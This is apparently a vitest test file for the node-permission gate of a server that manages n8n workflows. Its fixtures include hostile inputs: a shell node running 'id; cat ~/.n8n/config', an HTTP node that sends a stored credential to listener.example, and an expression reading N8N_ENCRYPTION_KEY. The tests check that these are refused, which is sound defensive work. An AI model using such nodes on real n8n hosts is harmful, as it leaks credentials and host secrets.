import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Env } from '../../../src/env';
import { loadCatalog, seedSpecs } from '../../support/catalog';
import { productionTools, withN8n } from '../../support/hostile';
import { connect, n8nSpecs, node } from '../../support/n8nCatalog';
import { callDirect, fakeN8n, fakeN8nApi, savedN8nWorkflow, sentToN8n, type SentRequest } from '../../support/tools';
import { webhookTrigger } from '../../support/workflows';

/**
 * The node gate, one test per rule, through the tools against the contract fake of n8n: a node of a
 * class (host, code, credentials) goes into n8n or runs only for a caller with the class's scope, in a
 * class the deployment allows; what a workflow already holds and a change leaves alone stays allowed;
 * a refusal names the node, its class, the scope and the n8n setting, and sends nothing that changes n8n.
 */
beforeAll(() => loadCatalog([...seedSpecs(), ...n8nSpecs], ['seed', 'n8n']));
afterEach(() => fakeN8n('config', { faults: [] }));

/** The deployment's n8n, with its node policy variables. */
const deployment = (vars: Partial<Env> = {}): Env => ({ ...withN8n(), ...vars });
const everyClass = () => deployment({ ALLOWED_NODE_CLASSES: 'host,code,credentials' });
/** The lowest scopes that let a caller change and run workflows. */
const WRITER = ['workflows:write', 'executions:read'];

const hook = (path = `gate-${crypto.randomUUID()}`) => webhookTrigger(path);
const cmd = node('Cmd', 'executeCommand', 1, { command: 'id; cat ~/.n8n/config' });
const code = node('Code', 'code', 2, { jsCode: 'return $input.all();' });
const slack = node(
  'Slack',
  'slack',
  2.3,
  { resource: 'message', operation: 'post', select: 'channel', text: 'hi' },
  { credentials: { slackApi: { id: '7', name: 'Team' } } },
);
const workflowOf = (...nodes: Record<string, unknown>[]) => ({
  name: `gate ${crypto.randomUUID()}`,
  nodes,
  connections: connect(...nodes.slice(1).map((n, i): [string, string] => [String(nodes[i]!.name), String(n.name)])),
  settings: {},
});

/** A workflow someone made in n8n itself (not through this server). */
const madeInN8n = async (workflow: Record<string, unknown>) => String((await fakeN8nApi('POST', '/workflows', workflow)).id);

/** What changed n8n among what was sent: anything but a read. */
const changes = (sent: SentRequest[]) => sent.filter((r) => r.method !== 'GET');
/** The webhook calls the fake served during `work`. */
async function webhookCalls(work: () => Promise<unknown>): Promise<string[]> {
  const before = ((await fakeN8n('requests')) as string[]).length;
  await work();
  return ((await fakeN8n('requests')) as string[]).slice(before).filter((r) => r.includes('/webhook/'));
}

describe('a node of a class goes into n8n only for a caller who may use the class', () => {
  it('host: refused to every caller while the deployment allows it to none (the default), naming the node, the class and the n8n setting', async () => {
    const { result, sent } = await sentToN8n(() => callDirect('create_workflow', { workflow: workflowOf(hook(), cmd) }, { env: deployment(), scopes: ['*'] }));
    expect(result.isError).toBe(true);
    expect(result.text).toMatch(/^Error: Refused: Creating this workflow puts into play nodes this credential may not use — /);
    expect(result.text).toContain(
      '"Cmd" (n8n-nodes-base.executeCommand) runs shell commands on the n8n host: class "host", and this deployment lets no caller use class "host" (the operator\'s ALLOWED_NODE_CLASSES)',
    );
    expect(result.text).toMatch(/In n8n itself: host: n8n's NODES_EXCLUDE keeps such node types out/);
    expect(changes(sent)).toEqual([]);
  });

  it('host: where the deployment allows it, needs the scope workflows:host', async () => {
    const refused = await callDirect('create_workflow', { workflow: workflowOf(hook(), cmd) }, { env: everyClass(), scopes: WRITER });
    expect(refused.text).toContain('class "host", and it needs the scope "workflows:host", which this credential does not have');
    const created = await callDirect('create_workflow', { workflow: workflowOf(hook(), cmd) }, { env: everyClass(), scopes: [...WRITER, 'workflows:host'] });
    expect(created.isError, created.text).toBe(false);
    expect((await savedN8nWorkflow(created.json.id)).nodes.map((n) => n.type)).toContain('n8n-nodes-base.executeCommand');
  });

  it('code: needs the scope workflows:code', async () => {
    const refused = await callDirect('create_workflow', { workflow: workflowOf(hook(), code) }, { env: deployment(), scopes: WRITER });
    expect(refused.text).toContain(
      '"Code" (n8n-nodes-base.code) runs the JavaScript or Python it is given: class "code", and it needs the scope "workflows:code"',
    );
    const created = await callDirect('create_workflow', { workflow: workflowOf(hook(), code) }, { env: deployment(), scopes: [...WRITER, 'workflows:code'] });
    expect(created.isError, created.text).toBe(false);
  });

  it('credentials: any node naming a stored credential needs credentials:use, whatever it is pointed at', async () => {
    const http = node(
      'Leak',
      'httpRequest',
      4.2,
      { method: 'GET', url: 'https://listener.example/collect', authentication: 'predefinedCredentialType', nodeCredentialType: 'slackApi' },
      { credentials: { slackApi: { id: '7', name: 'Team' } } },
    );
    const header = node(
      'Header',
      'httpRequest',
      4.2,
      { url: 'https://listener.example', authentication: 'genericCredentialType', genericAuthType: 'httpHeaderAuth' },
      { credentials: { httpHeaderAuth: { id: '9' } } },
    );
    for (const leaking of [slack, http, header]) {
      const refused = await callDirect('create_workflow', { workflow: workflowOf(hook(), leaking), force: true }, { env: deployment(), scopes: WRITER });
      expect(refused.text, String(leaking.name)).toMatch(
        /uses the stored credential \w+ "(Team|9)": class "credentials", and it needs the scope "credentials:use"/,
      );
      expect(refused.text).toMatch(/a credential's Allowed HTTP Request Domains/);
    }
    const allowed = await callDirect(
      'create_workflow',
      { workflow: workflowOf(hook(), slack), force: true },
      { env: deployment(), scopes: [...WRITER, 'credentials:use'] },
    );
    expect(allowed.isError, allowed.text).toBe(false);
  });

  it("an expression that reads the host's environment is class host, one that reads external secrets class credentials", async () => {
    const env = node('Env', 'set', 3.4, { assignments: { assignments: [{ id: '1', name: 'k', value: '={{ $env.N8N_ENCRYPTION_KEY }}', type: 'string' }] } });
    const secrets = node('Secret', 'set', 3.4, { assignments: { assignments: [{ id: '1', name: 'k', value: '={{ $secrets.vault.key }}', type: 'string' }] } });
    const refused = await callDirect(
      'create_workflow',
      { workflow: workflowOf(hook(), env, secrets) },
      { env: everyClass(), scopes: [...WRITER, 'workflows:code'] },
    );
    expect(refused.text).toContain('"Env" (n8n-nodes-base.set) reads the n8n host’s environment ($env): class "host"');
    expect(refused.text).toContain('"Secret" (n8n-nodes-base.set) reads external secrets ($secrets): class "credentials"');
  });

  it("the operator's NODE_CLASS_OVERRIDES move node types: a class made none lets its nodes in", async () => {
    const env = deployment({ NODE_CLASS_OVERRIDES: 'n8n-nodes-base.code=none' });
    const created = await callDirect('create_workflow', { workflow: workflowOf(hook(), code) }, { env, scopes: WRITER });
    expect(created.isError, created.text).toBe(false);
  });

  it('a node policy that cannot be read lets no class in, and says which variable is wrong', async () => {
    const refused = await callDirect(
      'create_workflow',
      { workflow: workflowOf(hook(), code) },
      { env: deployment({ ALLOWED_NODE_CLASSES: 'code,shell' }), scopes: ['*'] },
    );
    expect(refused.text).toContain('node policy cannot be read (ALLOWED_NODE_CLASSES names "shell", which is no class');
  });
});

describe('what a workflow already holds and a change leaves alone stays allowed', () => {
  it('an edit that does not touch a classed node, nor what feeds it, is saved without the class’s scope', async () => {
    const respond = node('Respond', 'respondToWebhook', 1.1, { respondWith: 'text', responseBody: 'ok' });
    const id = await madeInN8n(workflowOf(hook(), code, respond));
    const answer = await callDirect(
      'edit_workflow',
      {
        id,
        operations: [
          { type: 'moveNode', name: 'Code', position: [900, 900] },
          { type: 'updateNode', name: 'Respond', changes: { parameters: { responseBody: 'done' } } },
          { type: 'updateName', name: 'renamed by a writer' },
        ],
      },
      { scopes: WRITER },
    );
    expect(answer.isError, answer.text).toBe(false);
    expect(answer.json.saved).toBe(true);
  });

  it('an edit that changes what feeds a classed node acting on its input is refused: the node would run on what the caller chose', async () => {
    const clean = node('Clean', 'set', 3.4, { assignments: { assignments: [{ id: '1', name: 'cmd', value: 'date', type: 'string' }] } });
    const steered = node('Cmd', 'executeCommand', 1, { command: '={{ $json.cmd }}' });
    const id = await madeInN8n(workflowOf(hook(), clean, steered));
    const before = await savedN8nWorkflow(id);
    const answer = await callDirect(
      'edit_workflow',
      { id, operations: [{ type: 'setParameter', name: 'Clean', path: '/assignments/assignments/0/value', value: '={{ $json.body.cmd }}' }] },
      { env: everyClass(), scopes: WRITER },
    );
    expect(answer.text).toMatch(/The save step failed: Refused: Saving workflow \w+ puts into play .*"Cmd" \(n8n-nodes-base.executeCommand\)/);
    expect((await savedN8nWorkflow(id)).versionId).toBe(before.versionId);
  });

  it('a put-back restores a classed node the change had removed, though the caller may not add one', async () => {
    const id = await madeInN8n(workflowOf(hook(), code));
    const before = await savedN8nWorkflow(id);
    await fakeN8n('config', { faults: [{ request: `PUT /api/v1/workflows/${id}/tags`, status: 400, times: 1 }] });
    const answer = await callDirect(
      'edit_workflow',
      {
        id,
        operations: [
          { type: 'removeNode', name: 'Code' },
          { type: 'addTag', tag: 'refused' },
        ],
      },
      { scopes: [...WRITER, 'tags:write'] },
    );
    expect(answer.text).toMatch(new RegExp(`The tags step failed: .*Workflow ${id} is as it was before this call\\.`));
    const after = await savedN8nWorkflow(id);
    expect(after.nodes).toEqual(before.nodes);
  });
});

describe('running a workflow runs its classed nodes: the caller needs their classes', () => {
  it('activate_workflow, test_workflow and run_workflow_tests of a workflow holding a Code node, for a caller without workflows:code', async () => {
    const id = await madeInN8n(workflowOf(hook(), code));
    await callDirect('save_workflow_test', { id, test: { name: 'runs' } }, { scopes: WRITER });
    const calls = await webhookCalls(async () => {
      const activated = await callDirect('activate_workflow', { id }, { scopes: WRITER });
      expect(activated.text).toMatch(/^Error: The activate step failed: Refused: Activating workflow \w+ puts into play .*"Code" \(n8n-nodes-base.code\)/);
      const tested = await callDirect('test_workflow', { id }, { scopes: WRITER });
      expect(tested.text).toMatch(/^Error: Refused: Activating workflow \w+ puts into play .*class "code"/);
      const ran = await callDirect('run_workflow_tests', { id }, { scopes: WRITER });
      expect(ran.json.tests[0].failures[0]).toMatch(/^it could not run: Refused: Activating workflow/);
    });
    expect(calls).toEqual([]);
    expect((await savedN8nWorkflow(id)) as Record<string, unknown>).toMatchObject({ active: false });
  });

  it("test_workflow of an active workflow is refused before its trigger is called (its run is the caller's)", async () => {
    const id = await madeInN8n(workflowOf(hook(), code));
    await fakeN8nApi('POST', `/workflows/${id}/activate`);
    const calls = await webhookCalls(async () => {
      const tested = await callDirect('test_workflow', { id }, { scopes: WRITER });
      expect(tested.text).toMatch(/^Error: Refused: Running workflow \w+ puts into play .*"Code"/);
    });
    expect(calls).toEqual([]);
  });

  it('try_nodes: the throwaway workflow is refused whole before anything is made in n8n', async () => {
    const { result, sent } = await sentToN8n(() => callDirect('try_nodes', { nodes: [code] }, { scopes: WRITER }));
    expect(result.text).toMatch(/Refused: Creating this workflow puts into play .*"Code" \(n8n-nodes-base.code\)/);
    expect(changes(sent)).toEqual([]);
  });

  it('a node that runs another workflow has the classes of what that workflow holds: by id, inline, or unknown (every class)', async () => {
    const sub = await madeInN8n(workflowOf(node('Start', 'executeWorkflowTrigger', 1.1, { inputSource: 'passthrough' }), code));
    const byId = node('Call', 'executeWorkflow', 1.2, { workflowId: { __rl: true, mode: 'id', value: sub }, options: {} });
    const refused = await callDirect('create_workflow', { workflow: workflowOf(hook(), byId), force: true }, { scopes: WRITER });
    expect(refused.text).toContain(
      `"Call" (n8n-nodes-base.executeWorkflow) runs workflow ${sub}, whose "Code" runs the JavaScript or Python it is given: class "code"`,
    );
    const inline = node('Call', 'executeWorkflow', 1.2, { source: 'parameter', workflowJson: JSON.stringify(workflowOf(cmd)), options: {} });
    const inlined = await callDirect('create_workflow', { workflow: workflowOf(hook(), inline), force: true }, { env: everyClass(), scopes: WRITER });
    expect(inlined.text).toContain('runs the workflow it is given inline, whose "Cmd" runs shell commands on the n8n host: class "host"');
    const chosen = node('Call', 'executeWorkflow', 1.2, { workflowId: '={{ $json.body.id }}', options: {} });
    const unknown = await callDirect('create_workflow', { workflow: workflowOf(hook(), chosen), force: true }, { env: everyClass(), scopes: WRITER });
    for (const c of ['host', 'code', 'credentials']) expect(unknown.text).toContain(`is chosen when it runs, which may do anything: class "${c}"`);
  });

  it('an error workflow named in the settings runs too: its classes are needed', async () => {
    const handler = await madeInN8n(workflowOf(node('On error', 'errorTrigger', 1), code));
    const workflow = { ...workflowOf(hook()), settings: { errorWorkflow: handler } };
    const refused = await callDirect('create_workflow', { workflow, force: true }, { scopes: WRITER });
    expect(refused.text).toContain(`"(its error workflow, settings.errorWorkflow)" (settings.errorWorkflow) runs workflow ${handler}, whose "Code"`);
  });

  it('restore_workflow_version of a version holding a classed node, for a caller without its scope', async () => {
    const created = await callDirect('create_workflow', { workflow: workflowOf(hook(), code) }, { scopes: ['*'] });
    await callDirect('edit_workflow', { id: created.json.id, operations: [{ type: 'removeNode', name: 'Code' }] }, { scopes: ['*'] });
    const [removed] = (await callDirect('list_workflow_versions', { id: created.json.id })).json.versions as { version: number }[];
    const restored = await callDirect('restore_workflow_version', { id: created.json.id, version: removed!.version }, { scopes: WRITER });
    expect(restored.text).toMatch(/The save step failed: Refused: Saving workflow \w+ puts into play .*"Code"/);
  });
});

describe('every tool that puts nodes into n8n or runs them passes the gate', () => {
  /** For each such tool: arguments that would put an Execute Command node into n8n, or run one. */
  const ATTACKS: Record<string, (ids: { plain: string; guarded: string; version: number }) => Record<string, unknown>> = {
    create_workflow: () => ({ workflow: workflowOf(hook(), cmd) }),
    update_workflow: ({ plain }) => ({ id: plain, workflow: workflowOf(hook(), cmd) }),
    edit_workflow: ({ plain }) => ({ id: plain, operations: [{ type: 'addNode', node: cmd }] }),
    activate_workflow: ({ guarded }) => ({ id: guarded }),
    test_workflow: ({ guarded }) => ({ id: guarded }),
    run_workflow_tests: ({ guarded }) => ({ id: guarded }),
    try_nodes: () => ({ nodes: [cmd] }),
    restore_workflow_version: ({ plain, version }) => ({ id: plain, version }),
  };
  /** The other tools that change n8n or this server, and why no node goes in or runs through them. */
  const NO_NODES: Record<string, string> = {
    delete_workflow: 'takes a workflow out of n8n',
    prune_workflow_versions: 'deletes versions kept with this server',
    deactivate_workflow: 'stops a workflow',
    save_workflow_test: 'keeps a payload with this server; run_workflow_tests runs it, through the gate',
    delete_workflow_test: 'deletes a payload kept with this server',
    delete_execution: 'deletes a run’s data',
    create_credential: 'stores a credential (credentials:write); using one in a node is credentials:use',
    delete_credential: 'deletes a credential',
    create_tag: 'tags',
    update_tag: 'tags',
    delete_tag: 'tags',
    update_workflow_tags: 'sets tag ids on a workflow',
    create_user: 'users',
    delete_user: 'users',
    create_variable: 'variables ($vars), read by expressions the gate sees',
    delete_variable: 'variables',
    create_project: 'projects',
    delete_project: 'projects',
  };

  it('lists every tool that is not read-only in one of the two tables', () => {
    const writing = productionTools(withN8n())
      .filter((t) => t.annotations.readOnlyHint !== true)
      .map((t) => t.name);
    expect(writing.filter((name) => !(name in ATTACKS) && !(name in NO_NODES))).toEqual([]);
    expect([...Object.keys(ATTACKS), ...Object.keys(NO_NODES)].filter((name) => !writing.includes(name))).toEqual([]);
  });

  it.each(Object.keys(ATTACKS))('%s refuses, and sends n8n nothing that changes it and calls no trigger', async (tool) => {
    const plain = await madeInN8n(workflowOf(hook()));
    const guarded = await madeInN8n(workflowOf(hook(), cmd));
    // A version holding the node, kept by a caller who may use it: a restore of it by one who may not.
    const operator = { env: everyClass(), scopes: ['*'] };
    await callDirect('edit_workflow', { id: plain, operations: [{ type: 'addNode', node: cmd }] }, operator);
    await callDirect('edit_workflow', { id: plain, operations: [{ type: 'removeNode', name: 'Cmd' }] }, operator);
    const version = ((await callDirect('list_workflow_versions', { id: plain })).json.versions as { version: number }[])[0]!.version;
    await callDirect('save_workflow_test', { id: guarded, test: { name: 'runs' } }, { scopes: WRITER });
    let answer = { text: '' };
    const calls = await webhookCalls(async () => {
      const { result, sent } = await sentToN8n(() => callDirect(tool, ATTACKS[tool]!({ plain, guarded, version }), { env: everyClass(), scopes: WRITER }));
      answer = result;
      expect(changes(sent)).toEqual([]);
    });
    // run_workflow_tests answers each test's failure inside its JSON.
    expect(answer.text.replaceAll('\\"', '"')).toContain('class "host", and it needs the scope "workflows:host"');
    expect(calls).toEqual([]);
  });
});
